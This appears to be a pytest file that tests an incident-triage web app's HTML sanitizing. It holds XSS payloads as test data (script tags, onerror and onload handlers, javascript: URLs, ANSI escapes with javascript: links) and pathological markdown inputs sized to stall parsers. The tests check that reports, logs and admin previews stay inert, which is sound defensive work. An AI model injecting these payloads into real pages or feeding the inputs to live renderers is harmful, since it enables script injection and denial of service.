_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_C0_OR_SPACE = "".join(chr(code) for code in range(0x21))


def browser_url(value: str) -> str:
    """An attribute's URL as a browser's URL parser reads its scheme (WHATWG URL): tabs and
    newlines removed anywhere, C0 controls and spaces trimmed at both ends, case folded."""
    return _TAB_OR_NEWLINE.sub("", unescape(value)).strip(_C0_OR_SPACE).lower()


class _Findings(HTMLParser):
    """What a browser could execute or be steered by: counted, to compare with a benign page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[tuple[str, str]] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.found["tag", tag] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.found["handler", name] += 1
            if name == "style":
                self.found["style", tag] += 1
            if name in URL_ATTRIBUTES and value:
                url = browser_url(value)
                for scheme in ("javascript:", "vbscript:", "data:", "livescript:"):
                    if url.startswith(scheme):
                        self.found["url", scheme] += 1

    handle_startendtag = handle_starttag


def findings(html: str) -> Counter[tuple[str, str]]:
    parser = _Findings()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(hostile_html: str, benign_html: str, vector: str) -> None:
    """Nothing executable beyond what the page itself has (its own script and sign-out form)."""
    extra = findings(hostile_html) - findings(benign_html)
    assert not extra, f"{vector!r} left {dict(extra)}"
    assert hostile_html.lower().count("<script") == benign_html.lower().count("<script")


def report_pages(client, markdown: str, *, report_html: str | None = None) -> dict[str, str]:
    """The report page, the incident page and the admin preview of one report."""
    incident = make_incident(status="resolved")
    report = make_report(incident, make_execution(incident), report_markdown=markdown)
    if report_html is not None:
        type(report).objects.filter(pk=report.pk).update(report_html=report_html)
    pages = {
        "report": client.get(reverse("incidents:report", args=[report.report_id])),
        "incident": client.get(reverse("incidents:detail", args=[incident.incident_id])),
        "admin": client.get(
            reverse("admin:incidents_triagereport_change", args=[report.report_id])
        ),
    }
    for name, response in pages.items():
        assert response.status_code == 200, name
    return {name: response.content.decode() for name, response in pages.items()}


@pytest.fixture
def benign_pages(admin_client):
    return report_pages(
        admin_client, "# Findings\n\n[docs](https://example.com) ![ok](https://example.com/a.png)"
    )


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_in_report_markdown_is_inert_on_every_page(admin_client, benign_pages, vector):
    markdown = f"# Findings\n\n{vector}\n\nafter the vector\n"
    pages = report_pages(admin_client, markdown)
    for name, html in pages.items():
        assert_inert(html, benign_pages[name], f"{name}: {vector}")


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_in_stored_report_html_is_sanitized_in_the_admin_preview(
    admin_client, benign_pages, vector
):
    # report_html written by something other than the store (an old version, a hand edit).
    pages = report_pages(admin_client, "# Findings\n", report_html=f"<p>{vector}</p>")
    assert_inert(pages["admin"], benign_pages["admin"], f"admin preview: {vector}")


PATHOLOGICAL_MARKDOWN = {
    "50,000 open brackets": "[" * 50_000,  # 220 s before the budget
    "20,000 unclosed links": "[a](" * 20_000,
    "20,000 unclosed images": "![" * 20_000,
    "20,000 unclosed autolinks": "<http://" * 20_000,
    "1,000 brackets in a 1 MB paragraph": ("[" + "a" * 1000) * 1000,  # 80 s before
    "2,000 nested list levels": "".join("  " * i + "- x\n" for i in range(2000)),  # 34 s, crash
    "an unclosed fence hiding brackets": "```\n" + "[" * 50_000,
    "a fence with attributes hiding brackets": "```{a}}\n" + "[" * 50_000 + "\n```\n",
    "5,000 nested quotes": "> " * 5000 + "x <script>alert(1)</script>",
}


# Within the renderer's cost model (incidents.rendering.render_cost): rendered as markdown; every
# other case is plain text. markdown-it-py parses these in linear time (fences are not scanned
# for links, autolinks and bracket runs in one paragraph are cheap to it); the cases the cost
# model turns away took it seconds. How long each takes: `python bench/rendering.py`.
RENDERED_AS_MARKDOWN = {
    "5,000 nested quotes",
    "20,000 unclosed autolinks",
    "1,000 brackets in a 1 MB paragraph",
    "an unclosed fence hiding brackets",
    "a fence with attributes hiding brackets",
}


@pytest.mark.parametrize(
    ("case", "markdown"), PATHOLOGICAL_MARKDOWN.items(), ids=list(PATHOLOGICAL_MARKDOWN.keys())
)
def test_pathological_markdown_is_plain_text_past_the_budget_and_inert_on_every_page(
    admin_client, benign_pages, case, markdown
):
    pages = report_pages(admin_client, markdown)
    for name, html in pages.items():
        assert (PLAIN_TEXT_NOTE in html) is (case not in RENDERED_AS_MARKDOWN), name
        assert_inert(html, benign_pages[name], f"{name}: pathological markdown")


def test_a_report_too_complex_to_render_is_shown_escaped_as_plain_text():
    text = "<script>alert(1)</script>\n\n" + "[" * 50_000
    rendered = render(text)
    assert str(rendered.html).startswith(f"<p><em>{PLAIN_TEXT_NOTE}</em></p><pre>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered.html
    assert rendered.toc == ""


def test_a_long_fenced_log_full_of_brackets_still_renders_as_markdown():
    # Fenced code is not scanned for links: a big quoted log is no reason for plain text.
    log = "\n".join(f"[INFO] [pod-{i}] <GET /healthz> 200" for i in range(20_000))
    rendered = render(f"# Findings\n\n```text\n{log}\n```\n\nSee [the runbook](https://x.io).")
    assert PLAIN_TEXT_NOTE not in rendered.html
    assert '<a href="https://x.io"' in rendered.html


def test_raw_markdown_is_served_as_text_never_html(signed_in, one_incident):
    report = make_report(one_incident, report_markdown="<script>alert(1)</script>")
    response = signed_in.get(reverse("incidents:report-raw", args=[report.report_id]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"


# -- container logs and fault context ------------------------------------------------------------
ANSI_LOG = (
    "\x1b[31mERROR\x1b[0m connection refused <script>alert('log')</script>\r\n"
    "\x1b]0;owned title\x07\x1b]8;;javascript:alert(1)\x1b\\link text\x1b]8;;\x1b\\ "
    "\x1b[2J\x1b[Hcleared <img src=x onerror=alert(1)> \x07\x08\x7f tail"
)


def test_container_logs_with_html_and_ansi_escapes_are_escaped_and_stripped(signed_in):
    context = {
        "context": "<b onmouseover=alert(1)>Back-off</b> \x1b[1mrestarting\x1b[0m",
        "logs": [
            {"container": "<svg/onload=alert(1)>\x1b[32m", "previous": True, "sample": ANSI_LOG},
            {"container": "sidecar", "sample": {"nested": "<iframe src=javascript:alert(1)>"}},
            "<script>not an object</script>",
        ],
        "extra": "<style>body{display:none}</style>\x1b[5m",
    }
    benign = make_incident(event=make_fault_event(context=json.dumps({"context": "ok"})))
    hostile = make_incident(event=make_fault_event(context=json.dumps(context)))
    benign_html = signed_in.get(reverse("incidents:detail", args=[benign.incident_id]))
    response = signed_in.get(reverse("incidents:detail", args=[hostile.incident_id]))
    assert response.status_code == 200
    html = response.content.decode()
    assert_inert(html, benign_html.content.decode(), "container logs")
    assert "\x1b" not in html
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)
    assert "ERROR connection refused &lt;script&gt;alert(&#x27;log&#x27;)&lt;/script&gt;" in html
    assert "link text" in html and "cleared &lt;img src=x onerror=alert(1)&gt;" in html
    assert "&lt;b onmouseover=alert(1)&gt;Back-off&lt;/b&gt; restarting" in html


@pytest.mark.parametrize(
    "context",
    [
        "not json <script>alert(1)</script> \x1b[31m",
        json.dumps("a JSON string <script>"),
        json.dumps([1, "<script>"]),
        "[" * 5000 + "]" * 5000,  # too deep for the json module: shown as text
        json.dumps({"x": json.loads("[" * 900 + "]" * 900)}),  # deep but parseable
        '{"logs": ' + "[" * 900 + "]" * 900 + "}",
        '{"context": "\\ud800"}',
    ],
    ids=["text", "json-string", "json-array", "too-deep", "deep", "deep-logs", "surrogate"],
)
def test_odd_stored_context_renders_inert_never_500(signed_in, context):
    incident = make_incident(event=make_fault_event(context=context))
    response = signed_in.get(reverse("incidents:detail", args=[incident.incident_id]))
    assert response.status_code == 200
    assert "<script>" not in response.content.decode().split("</head>", 1)[1]


def test_python_recursion_limit_is_the_default():
    # The nesting cases above are sized against the default limit; a raised limit would turn
    # the 10,000-level cases into stack overflows of the interpreter itself.
    assert sys.getrecursionlimit() <= 1000


def test_a_lone_surrogate_in_an_ingested_context_shows_as_a_replacement_character(
    tmp_path, signed_in
):
    raw = with_raw("context", b'"before \\ud800 after"').replace(b'"hostile"', b'"surrogate"')
    status, _stdout, stderr = ingest(tmp_path, raw)
    assert (status, stderr) == (0, "")
    incident = Incident.objects.get(fault_id="surrogate")
    response = signed_in.get(reverse("incidents:detail", args=[incident.incident_id]))
    assert response.status_code == 200
    assert "before \ufffd after" in response.content.decode()


def test_a_lone_surrogate_in_the_context_does_not_fail_its_triage():
    from incidents.worker import Mode, Worker, WorkerConfig
    from tests.agents import agent_python, agent_script, reachable_folder

    incident = make_incident(event=make_fault_event(context='{"context":"before \\ud800 after"}'))
    agent = agent_script("scripted_agent.py")
    with reachable_folder() as root:  # the agent runs as nobody under a root worker
        config = WorkerConfig(agent_command=f"{agent_python()} {agent}", workspace_root=root)
        Worker(config, mode=Mode.ONCE).run()
        incident.refresh_from_db()
        assert incident.status == "resolved", incident.failure_reason
        event = json.loads((root / str(incident.incident_id) / "event.json").read_text())
    assert event["context"] == "before \ud800 after"  # upstream's string, as sent
